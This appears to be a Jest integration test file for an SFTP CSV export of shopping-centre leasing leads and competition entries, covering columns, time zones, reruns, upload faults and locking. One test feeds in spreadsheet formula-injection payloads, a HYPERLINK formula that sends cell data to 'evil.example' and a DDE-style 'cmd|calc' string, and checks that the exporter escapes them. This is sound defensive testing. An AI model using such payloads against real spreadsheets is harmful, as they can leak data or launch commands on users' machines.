import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import { parseCsv } from '../../../src/modules/exports/csv';
import { headerOf } from '../../../src/modules/exports/export-columns';
import { JobLeaseService } from '../../../src/modules/submissions/job-lease.service';
import {
  SUBMISSION_LEDGER,
  type AcceptInput,
  type SubmissionLedger,
} from '../../../src/modules/submissions/submission-ledger.port';
import { startTestApp, type TestApp } from '../../utils/test-app';

// 16:00 in Melbourne, 13:00 in Perth on 23 November: the 22nd has ended in every demo centre
const NOW = new Date('2026-11-23T05:00:00Z');
const TOKEN = 'export-test-token';
const DAY = '2026-11-22';

describe('SFTP export (POST /api/admin/exports/run)', () => {
  let app: TestApp;
  let ledger: SubmissionLedger;
  let folder: string;
  let seq = 0;

  const accept = (input: Omit<AcceptInput, 'id'>, at: string) =>
    ledger.accept({ ...input, id: `rec-${String((seq += 1)).padStart(3, '0')}` }, new Date(at));
  const run = (date?: string) =>
    request(app.url)
      .post(`/api/admin/exports/run${date ? `?date=${date}` : ''}`)
      .set('x-webhook-token', TOKEN);
  const files = (): string[] => (existsSync(folder) ? readdirSync(folder).sort() : []);
  const rowsOf = (name: string): string[][] => parseCsv(readFileSync(join(folder, name), 'utf8'));

  beforeEach(async () => {
    app = await startTestApp({
      env: { WEBHOOK_TOKEN: TOKEN, SUBMISSIONS_JOBS_ENABLED: 'false' },
      clock: { now: () => NOW },
    });
    ledger = app.app.get<SubmissionLedger>(SUBMISSION_LEDGER);
    folder = join(app.sandboxes.sftp.root, 'upload');
  });

  afterEach(async () => {
    await app.close();
  });

  it('should write one file per kind and centre for the day, with the documented columns, and record the export', async () => {
    // 23:30 on the 22nd in Melbourne, 09:00 on the 22nd in Perth, and 00:30 on the 23rd in Melbourne (another day)
    const leasing = await accept(
      {
        kind: 'leasing',
        centre: 'willowvale',
        payload: {
          type: 'leasing',
          first_name: 'Zoë',
          last_name: "O'Brien",
          email: 'zoe@example.com',
          comment: 'Corner site, "north" side',
        },
      },
      '2026-11-22T12:30:00Z',
    );
    const entry = await accept(
      {
        kind: 'competition',
        centre: 'karri-ridge',
        payload: {
          campaignId: 'C-1',
          email: 'sam@example.com',
          first_name: 'Sam',
          sales: [
            { storeid: 's1', date: '2026-11-21', value: 25 },
            { storeid: 's2', date: '2026-11-22', value: 10 },
          ],
        },
      },
      '2026-11-22T01:00:00Z',
    );
    const nextDay = await accept(
      { kind: 'leasing', centre: 'willowvale', payload: { first_name: 'Ann' } },
      '2026-11-22T13:30:00Z',
    );
    await accept(
      { kind: 'contact', centre: 'willowvale', payload: { first_name: 'Not a lead' } },
      '2026-11-22T02:00:00Z',
    );

    const response = await run(DAY);

    expect(response.status).toBe(200);
    expect(response.body).toEqual({
      files: [
        {
          file: 'competition-entries-karri-ridge-2026-11-22.csv',
          centre: 'karri-ridge',
          kind: 'competition',
          date: DAY,
          records: 1,
        },
        {
          file: 'leads-leasing-willowvale-2026-11-22.csv',
          centre: 'willowvale',
          kind: 'leasing',
          date: DAY,
          records: 1,
        },
      ],
      recovered: 0,
    });
    expect(files()).toEqual([
      'competition-entries-karri-ridge-2026-11-22.csv',
      'leads-leasing-willowvale-2026-11-22.csv',
    ]);
    expect(readFileSync(join(folder, 'leads-leasing-willowvale-2026-11-22.csv'), 'utf8')).toBe(
      `${headerOf('leasing').join(',')}\r\n${leasing.record.id},2026-11-22T23:30:00+11:00,willowvale,Zoë,O'Brien,,zoe@example.com,,,,,,,,"Corner site, ""north"" side",\r\n`,
    );
    const competition = rowsOf('competition-entries-karri-ridge-2026-11-22.csv');
    expect(competition[0]).toEqual(headerOf('competition'));
    const pick = (row: string[]) =>
      ['submission_id', 'submitted_at', 'email', 'sale_number', 'sale_store_id', 'sale_amount'].map(
        (column) => row[competition[0]!.indexOf(column)],
      );
    expect(competition.slice(1).map(pick)).toEqual([
      [entry.record.id, '2026-11-22T09:00:00+08:00', 'sam@example.com', '1', 's1', '25'],
      [entry.record.id, '2026-11-22T09:00:00+08:00', 'sam@example.com', '2', 's2', '10'],
    ]);
    expect(await ledger.get(leasing.record.id)).toMatchObject({
      exportedAt: NOW.toISOString(),
      exportFile: 'leads-leasing-willowvale-2026-11-22.csv',
    });
    expect(await ledger.get(entry.record.id)).toMatchObject({
      exportFile: 'competition-entries-karri-ridge-2026-11-22.csv',
    });
    expect((await ledger.get(nextDay.record.id))?.exportedAt).toBeUndefined();
  });

  it('should neutralise a formula hidden behind spaces or invisible characters in the exported file', async () => {
    const lead = await accept(
      {
        kind: 'leasing',
        centre: 'willowvale',
        payload: {
          first_name: '\u200b=HYPERLINK("https://evil.example/?"&A1,"Open")',
          last_name: '\ufeff  @SUM(1+1)*cmd|calc',
          email: 'zoe@example.com',
          comment: '=1+1',
        },
      },
      '2026-11-22T03:00:00Z',
    );
    expect((await run(DAY)).status).toBe(200);
    const [header, row] = rowsOf('leads-leasing-willowvale-2026-11-22.csv');
    const cell = (column: string) => row![header!.indexOf(column)];
    expect(cell('submission_id')).toBe(lead.record.id);
    expect(cell('first_name')).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Open")');
    expect(cell('last_name')).toBe("'@SUM(1+1)*cmd|calc");
    expect(cell('comment')).toBe("'=1+1");
  });

  it('should add no row when run again, and put a record accepted later into a second file of the day', async () => {
    await accept(
      { kind: 'commercial-leasing', centre: 'riverbend', payload: { firstName: 'Li', businessName: 'Li & Co' } },
      '2026-11-22T04:00:00Z',
    );
    expect((await run(DAY)).status).toBe(200);

    const again = await run(DAY);

    expect(again.status).toBe(200);
    expect(again.body).toEqual({ files: [], recovered: 0 });
    expect(rowsOf('leads-commercial-leasing-riverbend-2026-11-22.csv')).toHaveLength(2);

    const late = await accept(
      { kind: 'commercial-leasing', centre: 'riverbend', payload: { firstName: 'Mo' } },
      '2026-11-22T05:00:00Z',
    );
    const third = await run(DAY);

    expect(third.body.files).toEqual([
      {
        file: 'leads-commercial-leasing-riverbend-2026-11-22-2.csv',
        centre: 'riverbend',
        kind: 'commercial-leasing',
        date: DAY,
        records: 1,
      },
    ]);
    expect(
      rowsOf('leads-commercial-leasing-riverbend-2026-11-22-2.csv')
        .slice(1)
        .map((row) => row[0]),
    ).toEqual([late.record.id]);
    expect(rowsOf('leads-commercial-leasing-riverbend-2026-11-22.csv')).toHaveLength(2);
  });

  it('should leave no partial file under the final name when an upload fails, and succeed at the next run', async () => {
    const lead = await accept(
      {
        kind: 'leasing-popup',
        centre: 'willowvale',
        payload: { first_name: 'Zoë', tell_us_about_your_business: 'x'.repeat(2000) },
      },
      '2026-11-22T03:00:00Z',
    );
    app.sandboxes.sftp.setFault({ mode: 'fail-writes', afterBytes: 500 });

    const failed = await run(DAY);

    expect(failed.status).toBe(503);
    expect(failed.body).toMatchObject({
      code: 'UPSTREAM.SFTP_UNAVAILABLE',
      message: 'The SFTP server is unavailable: the export will be retried at the next run',
    });
    expect(files().filter((name) => !name.startsWith('.'))).toEqual([]);
    expect((await ledger.get(lead.record.id))?.exportedAt).toBeUndefined();

    app.sandboxes.sftp.clearFault();
    const next = await run(DAY);

    expect(next.status).toBe(200);
    expect(files()).toEqual(['leads-leasing-popup-willowvale-2026-11-22.csv']);
    expect(rowsOf('leads-leasing-popup-willowvale-2026-11-22.csv')[1]![0]).toBe(lead.record.id);
    expect(await ledger.get(lead.record.id)).toMatchObject({
      exportFile: 'leads-leasing-popup-willowvale-2026-11-22.csv',
    });
  });

  it('should record, without writing them again, records a file already holds but the ledger missed', async () => {
    const lead = await accept(
      { kind: 'leasing', centre: 'willowvale', payload: { first_name: 'Zoë' } },
      '2026-11-22T03:00:00Z',
    );
    expect((await run(DAY)).status).toBe(200);
    // as if the run had stopped between the rename and the ledger update
    const unexported = jest.spyOn(ledger, 'unexported').mockResolvedValueOnce([lead.record]);

    const response = await run(DAY);

    expect(unexported).toHaveBeenCalled();
    expect(response.body).toEqual({ files: [], recovered: 1 });
    expect(files()).toEqual(['leads-leasing-willowvale-2026-11-22.csv']);
    expect(await ledger.get(lead.record.id)).toMatchObject({ exportFile: 'leads-leasing-willowvale-2026-11-22.csv' });
  });

  it('should answer 409 while another run holds the export lease', async () => {
    let finish!: () => void;
    const held = app.app
      .get(JobLeaseService)
      .run('sftp-export', 60_000, () => new Promise<void>((resolve) => (finish = resolve)));
    await new Promise((resolve) => setImmediate(resolve));

    const response = await run(DAY);
    finish();
    await held;

    expect(response.status).toBe(409);
    expect(response.body).toMatchObject({ code: 'EXPORT.CONFLICT', message: 'An export is already running' });
    expect((await run(DAY)).status).toBe(200);
  });

  it('should answer 503 when the SFTP server refuses connections', async () => {
    await accept({ kind: 'leasing', centre: 'willowvale', payload: { first_name: 'Zoë' } }, '2026-11-22T03:00:00Z');
    app.sandboxes.sftp.setFault({ mode: 'refuse' });

    const response = await run(DAY);

    expect(response.status).toBe(503);
    expect(response.body.code).toBe('UPSTREAM.SFTP_UNAVAILABLE');
  });

  it('should export the ended days of the look-back window when no date is given', async () => {
    await accept({ kind: 'leasing', centre: 'riverbend', payload: { first_name: 'Old' } }, '2026-11-18T03:00:00Z');
    await accept({ kind: 'leasing', centre: 'riverbend', payload: { first_name: 'Today' } }, '2026-11-23T01:00:00Z');

    const response = await run();

    expect(response.status).toBe(200);
    expect(files()).toEqual(['leads-leasing-riverbend-2026-11-18.csv']);
  });

  it('should refuse a day that has not ended in every centre, a malformed date and a missing token', async () => {
    const today = await run('2026-11-23');
    const malformed = await run('22-11-2026');
    const anonymous = await request(app.url).post('/api/admin/exports/run');

    expect(today.status).toBe(400);
    expect(today.body).toMatchObject({
      message: 'Invalid export request',
      errors: { date: 'The day has not ended yet in every centre' },
    });
    expect(malformed.status).toBe(400);
    expect(malformed.body.errors).toEqual({ date: 'Please enter a date as YYYY-MM-DD' });
    expect(anonymous.status).toBe(401);
  });
});
